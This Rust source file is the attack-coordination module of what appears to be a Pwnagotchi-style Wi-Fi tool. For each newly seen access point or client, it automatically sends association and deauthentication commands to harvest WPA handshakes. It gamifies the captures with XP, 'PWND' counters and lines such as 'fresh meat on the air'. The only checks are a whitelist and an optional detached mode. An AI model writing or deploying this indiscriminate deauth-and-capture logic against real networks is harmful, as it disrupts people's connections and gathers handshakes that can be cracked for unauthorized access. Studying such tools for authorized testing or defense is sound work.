// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

//! Opportunistic attack coordination.
//!
//! Consumes the ordered event stream from the bus client and decides, per
//! newly observed AP or client, whether to fire an association or deauth
//! through the command sink. Stateless over the topology; the only local
//! state is the two bounded seen-sets and the lifetime counter.

use std::path::Path;
use std::sync::Arc;

use rand::Rng;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

use crate::bus::events::{ApData, BusEvent, HandshakeData, StationData};
use crate::bus::{CommandSender, CommandSink};
use crate::mac::Mac;
use crate::stats::CapturedSet;
use crate::topology::{epoch_ms, TopologyStore};
use crate::ui::{AnimationKind, Mood, Ui};

/// Caps for the two seen-sets.
const SEEN_AP_CAP: usize = 512;
const SEEN_HANDSHAKE_CAP: usize = 256;

/// Frame interval for the handshake download animation.
const DOWNLOAD_FRAME_MS: u64 = 150;

/// XP awarded per first handshake from an AP.
const HANDSHAKE_XP: u64 = 25;

const NEW_AP_VOICES: &[&str] = &[
    "ooh, a new network!",
    "fresh meat on the air",
    "well hello there",
    "hadn't seen that one before",
];

const HANDSHAKE_VOICES: &[&str] = &[
    "gotcha! handshake captured",
    "yes! another one for the pile",
    "that one's coming home with us",
];

fn pick<'a>(voices: &'a [&'a str]) -> &'a str {
    voices[rand::rng().random_range(0..voices.len())]
}

/// Fixed-capacity MAC set with last-wins overwrite once full.
pub struct SeenSet {
    entries: Vec<Mac>,
    cap: usize,
    cursor: usize,
}

impl SeenSet {
    pub fn new(cap: usize) -> Self {
        Self { entries: Vec::new(), cap, cursor: 0 }
    }

    pub fn contains(&self, mac: Mac) -> bool {
        self.entries.contains(&mac)
    }

    /// Record a MAC. Returns `true` when it was not yet present. At
    /// capacity the oldest slot is overwritten rather than dropping the
    /// new sighting.
    pub fn insert(&mut self, mac: Mac) -> bool {
        if self.contains(mac) {
            return false;
        }
        if self.entries.len() < self.cap {
            self.entries.push(mac);
        } else {
            self.entries[self.cursor] = mac;
            self.cursor = (self.cursor + 1) % self.cap;
        }
        true
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

/// SSIDs and BSSIDs exempt from attacks, one per line.
#[derive(Debug, Clone, Default)]
pub struct Whitelist {
    entries: Vec<String>,
}

impl Whitelist {
    pub fn load(path: &Path) -> anyhow::Result<Self> {
        let contents = std::fs::read_to_string(path)?;
        Ok(Self::from_lines(&contents))
    }

    pub fn from_lines(contents: &str) -> Self {
        let entries = contents
            .lines()
            .map(str::trim)
            .filter(|line| !line.is_empty() && !line.starts_with('#'))
            .map(|line| line.to_ascii_lowercase())
            .collect();
        Self { entries }
    }

    pub fn contains(&self, ssid: &str, bssid: Mac) -> bool {
        let ssid = ssid.to_ascii_lowercase();
        let bssid = bssid.to_string();
        self.entries.iter().any(|e| *e == ssid || *e == bssid)
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }
}

/// Event-driven attack policy adapter.
pub struct AttackCoordinator {
    commands: CommandSender,
    store: Arc<TopologyStore>,
    ui: Arc<Ui>,
    captured: CapturedSet,
    rescan_tx: mpsc::UnboundedSender<()>,
    whitelist: Whitelist,
    /// With the policy engine detached we observe and render but never
    /// issue attacks.
    policy_attached: bool,
    seen_aps: SeenSet,
    seen_handshake_aps: SeenSet,
    total_new_aps: u64,
}

impl AttackCoordinator {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        commands: CommandSender,
        store: Arc<TopologyStore>,
        ui: Arc<Ui>,
        captured: CapturedSet,
        rescan_tx: mpsc::UnboundedSender<()>,
        whitelist: Whitelist,
        policy_attached: bool,
    ) -> Self {
        Self {
            commands,
            store,
            ui,
            captured,
            rescan_tx,
            whitelist,
            policy_attached,
            seen_aps: SeenSet::new(SEEN_AP_CAP),
            seen_handshake_aps: SeenSet::new(SEEN_HANDSHAKE_CAP),
            total_new_aps: 0,
        }
    }

    pub async fn handle_event(&mut self, event: BusEvent) {
        match event {
            BusEvent::ApNew(ap) => self.on_ap_new(&ap).await,
            // Probes share the hook: a probing client that is associated
            // somewhere we track is as good a deauth target as a new one.
            BusEvent::ClientNew(sta) | BusEvent::ClientProbe(sta) => {
                self.on_client_new(&sta).await;
            }
            BusEvent::Handshake(hs) => self.on_handshake(&hs).await,
            BusEvent::ApLost(_) | BusEvent::ClientLost(_) => {
                self.refresh_ap_widget().await;
            }
            BusEvent::Deauthentication(deauth) => {
                tracing::debug!(ap = ?deauth.ap, station = ?deauth.station, "deauth observed");
            }
            BusEvent::Unknown => {}
        }
    }

    async fn on_ap_new(&mut self, ap: &ApData) {
        let first_sight = self.seen_aps.insert(ap.mac);
        if first_sight {
            self.total_new_aps += 1;
            let voice = pick(NEW_AP_VOICES).to_owned();
            let count = self.store.snapshot_ap_count().await;
            let total = self.total_new_aps;
            self.ui
                .update(move |state| {
                    state.set_status(&voice);
                    state.aps = format!("APS {count} ({total})");
                    state.dirty = true;
                })
                .await;
        }

        if !self.policy_attached {
            return;
        }
        if self.captured.read().await.contains(&ap.mac) {
            tracing::debug!(bssid = %ap.mac, "already captured, skipping assoc");
            return;
        }
        if self.whitelist.contains(ap.name(), ap.mac) {
            tracing::debug!(bssid = %ap.mac, ssid = %ap.name(), "whitelisted, skipping assoc");
            return;
        }

        tracing::info!(bssid = %ap.mac, ssid = %ap.name(), "associating");
        if let Err(e) = self.commands.send_command(&format!("wifi.assoc {}", ap.mac)).await {
            tracing::warn!(err = %e, bssid = %ap.mac, "assoc command failed");
        }
        self.ui.update(|state| state.attack_mood(Mood::Intense, epoch_ms())).await;
    }

    async fn on_client_new(&mut self, sta: &StationData) {
        self.refresh_ap_widget().await;
        if !self.policy_attached {
            return;
        }
        let Some(ap_bssid) = sta.ap.filter(|m| !m.is_zero()) else {
            return;
        };
        // Only clients of APs we are tracking are worth a deauth.
        let Some(ap) = self.store.find_ap_by_bssid(ap_bssid).await else {
            return;
        };
        if self.captured.read().await.contains(&ap_bssid) {
            return;
        }
        if self.whitelist.contains(&ap.ssid, ap_bssid) {
            return;
        }

        tracing::info!(station = %sta.mac, bssid = %ap_bssid, "deauthing client");
        if let Err(e) = self.commands.send_command(&format!("wifi.deauth {}", sta.mac)).await {
            tracing::warn!(err = %e, station = %sta.mac, "deauth command failed");
        }
        self.ui.update(|state| state.attack_mood(Mood::Cool, epoch_ms())).await;
    }

    async fn on_handshake(&mut self, hs: &HandshakeData) {
        if self.seen_handshake_aps.insert(hs.ap) {
            let voice = pick(HANDSHAKE_VOICES).to_owned();
            let shakes = self.store.handshake_count().await;
            self.ui
                .update(move |state| {
                    let now = epoch_ms();
                    state.set_status(&voice);
                    state.attack_mood(Mood::Happy, now);
                    state.start_animation(AnimationKind::Download, DOWNLOAD_FRAME_MS, now);
                    state.shakes = format!("PWND {shakes}");
                    state.award_xp(HANDSHAKE_XP);
                })
                .await;
        }
        // Every handshake refreshes the on-disk verdicts.
        let _ = self.rescan_tx.send(());
    }

    async fn refresh_ap_widget(&self) {
        let count = self.store.snapshot_ap_count().await;
        let total = self.total_new_aps;
        self.ui
            .update(move |state| {
                let line = format!("APS {count} ({total})");
                if state.aps != line {
                    state.aps = line;
                    state.dirty = true;
                }
            })
            .await;
    }
}

/// Spawn the coordinator worker consuming the bus client's event channel.
pub fn spawn_coordinator(
    mut coordinator: AttackCoordinator,
    mut events_rx: mpsc::UnboundedReceiver<BusEvent>,
    cancel: CancellationToken,
) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        loop {
            tokio::select! {
                _ = cancel.cancelled() => break,
                event = events_rx.recv() => {
                    match event {
                        Some(event) => coordinator.handle_event(event).await,
                        None => break,
                    }
                }
            }
        }
    })
}

#[cfg(test)]
#[path = "attack_tests.rs"]
mod tests;
